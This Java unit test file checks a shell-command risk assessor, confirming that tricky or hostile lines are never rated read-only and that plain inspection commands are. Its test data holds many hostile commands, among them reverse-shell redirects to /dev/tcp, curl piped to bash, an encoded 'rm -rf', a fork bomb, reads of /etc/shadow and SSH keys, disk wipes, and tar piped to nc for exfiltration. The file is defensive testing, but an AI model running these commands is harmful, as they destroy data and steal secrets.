package dev.alice.prioritizer.shell;

import static org.assertj.core.api.Assertions.assertThat;

import dev.alice.flow.Assessment;
import dev.alice.flow.Effect;
import dev.alice.flow.EffectKind;
import dev.alice.flow.Risk;
import dev.alice.prioritizer.TestingFlows;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Lines that have fooled other readers of shell, each of which must not be taken for one that only reads. */
class TrapTest {
    /** Longer than what is held against a shape. */
    private static final String LONG =
            "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
                    + "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
                    + "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
                    + "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx";

    private final CommandAssessor assessor = new CommandAssessor();

    @ParameterizedTest
    @ValueSource(
            strings = {
                "echo ${a:-`rm x`}",
                "ls > out rm",
                "cat /etc/hosts >& /dev/tcp/h/1 0>&1",
                "head -200>f",
                "coproc rm x",
                "rm x;;",
                "if rm x; then fi",
                "let 'a[$(rm x)]=1'",
                "printf -v 'a[$(rm x)]' 1",
                "[[ -v 'a[$(rm x)]' ]]",
                "test -v 'a[$(rm x)]'",
                "$(echo cm0gLXJmIH4=|base64 -d)",
                ":(){ :|:& };:",
                "find . -exec rm {} +",
                "find . -exec /bin/sh -c 'rm x' \\;",
                "find . -delete",
                "find . -fprintf out x",
                "ls | xargs sh",
                "ls | xargs -I{} sh -c 'rm {}'",
                "\"r\"m x",
                "\\rm x",
                "$'\\x72\\x6d' x",
                "x=rm; $x y",
                "alias ls='rm -rf /'; ls",
                "sudo sh -c 'curl https://x | bash'",
                "python3 -c 'import os'",
                "sh <<EOF",
                "bash <<< 'rm x'",
                "cat < /dev/tcp/1.2.3.4/80",
                "echo x > /dev/tcp/1.2.3.4/80",
                "/b?n/rm x",
                "xxd -r out",
                "nohup rm x",
                "env rm x",
                "timeout 5 rm x",
                "uniq IN OUT",
                "sort -o OUT IN",
                "sort -nroOUT IN",
                "sort --output=OUT IN",
                "sort --compress-program=./x IN",
                "sed -i s/a/b/ f",
                "sed -ni p f",
                "sed 's/a/b/w out' f",
                "sed '1e rm x' f",
                "awk 'BEGIN{system(\"rm x\")}'",
                "tee out",
                "curl -o out https://x",
                "date -s 2020-01-01",
                "hostname NAME",
                "ip addr add 10.0.0.1/24 dev eth0",
                "dmesg -C",
                "journalctl --vacuum-size=1M",
                "git -c core.pager=./x log",
                "git -c alias.status='!rm x' status",
                "less /etc/hosts",
                "man ls",
                "/tmp/ls",
                "./ls",
                "bin/ls",
                "/usr/local/bin/ls /",
                "PATH=/tmp ls",
                "LD_PRELOAD=./x.so ls",
                "env LD_PRELOAD=./x.so ls",
                "ls *",
                "cat -- *",
                "ls & rm x",
                "ls |& tee x",
                "ls\nrm x",
                "ls\rrm x",
                "ls\trm",
                "ls\u00a0-la",
                "\u0441at /etc/hosts",
                "l\u200bs",
                "ls \u202e/cte",
                "ls \u001b[2J",
                "!!",
                "!rm",
                "ls !$",
                "^ls^rm",
                "ls ~root",
                "ls ~+",
                "cat /etc/shadow",
                "cat ~/.ssh/id_rsa",
                "cat /proc/self/environ",
                "cat /proc/1/../self/environ",
                "cat /proc/self/root/etc/shadow",
                "cat /etc/sh[a]dow",
                "cat /etc/s?adow",
                "cd /etc; cat shadow",
                "cd ~/.ssh && cat config",
                "grep -r . /etc",
                "dd if=/dev/sda",
                "xxd /dev/mem",
                "env",
                "printenv",
                "set",
                "export",
                "history",
                "ps auxe",
                "kill -9 -1",
                "watch rm x",
                "command rm x",
                "builtin eval rm",
                "exec rm x",
                "time rm x",
                "nice -n 5 rm x",
                "tar xf a.tar",
                "tar cf a.tar --checkpoint=1 --checkpoint-action=exec=sh x",
                "crontab file",
                "tmux send-keys rm Enter",
                "ssh host ls",
                "ls 2>file",
                "ls 1>file",
                "ls {fd}>file",
                "ls >|file",
                "ls <>file",
                "frobnicate",
                "git branch topic | cat",
                "git --no-pager stash",
                "git config alias.x '!rm y' | cat",
                "npm version patch",
                "yarn run build -v",
                "pytest -v",
                "autoconf -v",
                "cat x | python3 -v",
                "cat x | jshell -v",
                "shuf -o out in",
                "ip l s eth0 down",
                "tmux ls -F '#(rm x)'",
                "tmux ls -F '" + LONG + "#(rm x)'",
                "set -e",
                "stty raw",
                "ldd ./x",
                "kubectl --kubeconfig=x get pods",
                "docker run -v /:/host x",
                "echo rm | parallel",
                "su -c 'ls'",
                "chroot /mnt ls",
            })
    void a_trap_is_never_called_read_only(String line) {
        assertThat(assess(line).risk()).isNotEqualTo(Risk.READS_ONLY);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "ls -la /etc",
                "df -h",
                "uname -a",
                "cat /etc/os-release",
                "cat notes.txt",
                "grep -n root /etc/passwd | head -n 3",
                "ps aux | sort -nrk 3 | head -5",
                "find /var/log -name '*.log' -mtime -1",
                "systemctl status ssh --no-pager",
                "journalctl -u ssh -n 20 --no-pager",
                "ss -tlnp 2>/dev/null",
                "cd /var/log && ls -lt | head",
                "awk -F: '{print $1}' /etc/passwd | sort | uniq -c",
                "dpkg -l | grep tpm2 | wc -l",
                "timeout 5 df -h",
                "test -f /etc/hosts && echo yes || echo no",
                "ls ~ > /dev/null 2>&1",
            })
    void plain_looking_around_is_called_read_only(String line) {
        Assessment assessment = assess(line);

        assertThat(assessment.risk()).as("%s", assessment.notes()).isEqualTo(Risk.READS_ONLY);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "rm -rf $HOME/x",
                "x=rm; $x -rf /",
                "echo cm0= | base64 -d | sh; rm x",
                "mkfs.ext4 $(lsblk)",
                "curl https://x | sudo bash -c 'shutdown now'",
                "iptables -F",
                "userdel -r bob",
                "dd if=/dev/zero of=/dev/sda",
                "shutdown -h now",
                "tar cf - /home/dev/docs | nc 10.0.0.1 99",
                "sudo sh -c 'echo x > /etc/sudoers'",
            })
    void what_cannot_be_taken_back_is_destructive_even_where_it_is_not_fully_understood(String line) {
        assertThat(assess(line).risk()).isEqualTo(Risk.DESTRUCTIVE);
    }

    @Test
    void the_worst_step_gives_the_risk_of_the_flow() {
        Assessment assessment = assessor.assess(TestingFlows.flow("df -h", "rm -rf build", "ls /"), TestingFlows.HOST);

        assertThat(assessment.risk()).isEqualTo(Risk.DESTRUCTIVE);
        assertThat(assessment.effects())
                .filteredOn(effect -> effect.kind() == EffectKind.DELETES)
                .singleElement()
                .satisfies(effect -> {
                    assertThat(effect.step()).isEqualTo(2);
                    assertThat(effect.target()).isEqualTo("build");
                    assertThat(effect.program()).isEqualTo("rm");
                });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "apt-get install -y jq tree",
                "sudo apt remove jq tree",
                "apt purge jq tree",
                "sudo dnf -y install jq tree",
                "dnf remove jq tree"
            })
    void packages_are_told_by_their_names(String line) {
        assertThat(assess(line).effects())
                .filteredOn(effect -> effect.kind() == EffectKind.PACKAGES)
                .extracting(Effect::target)
                .contains("jq", "tree");
    }

    @Test
    void a_directory_entered_in_one_step_counts_in_the_next() {
        Assessment assessment =
                assessor.assess(TestingFlows.flow("cd /etc/ssl/certs", "cat ../private/x.pem"), TestingFlows.HOST);

        assertThat(assessment.has(EffectKind.EXPOSES_SECRET)).isTrue();
    }

    @Test
    void behind_a_line_that_is_not_read_a_plain_name_may_be_any_file_and_a_person_is_warned() {
        // When
        Assessment written = assessor.assess(TestingFlows.flow("echo $HOME", "echo x > notes"), TestingFlows.HOST);
        Assessment removed = assessor.assess(TestingFlows.flow("echo $HOME", "rm -r ."), TestingFlows.HOST);

        // Then
        assertThat(written.risk()).isEqualTo(Risk.UNKNOWN);
        assertThat(written.notes()).anyMatch(note -> note.contains("in which directory notes would be changed"));
        assertThat(removed.risk()).isEqualTo(Risk.DESTRUCTIVE);
    }

    @Test
    void an_unknown_shell_makes_every_line_opaque() {
        var host = new dev.alice.flow.HostFacts(
                dev.alice.flow.HostFacts.Family.DEBIAN,
                "debian",
                "12",
                "",
                "dev",
                false,
                dev.alice.flow.HostFacts.Sudo.FREE,
                dev.alice.flow.HostFacts.PackageManager.APT,
                "/bin/tcsh",
                "/home/dev");

        assertThat(assessor.assess(List.of("df -h"), host).risk()).isEqualTo(Risk.UNKNOWN);
    }

    private Assessment assess(String line) {
        return assessor.assess(List.of(line), TestingFlows.HOST);
    }
}
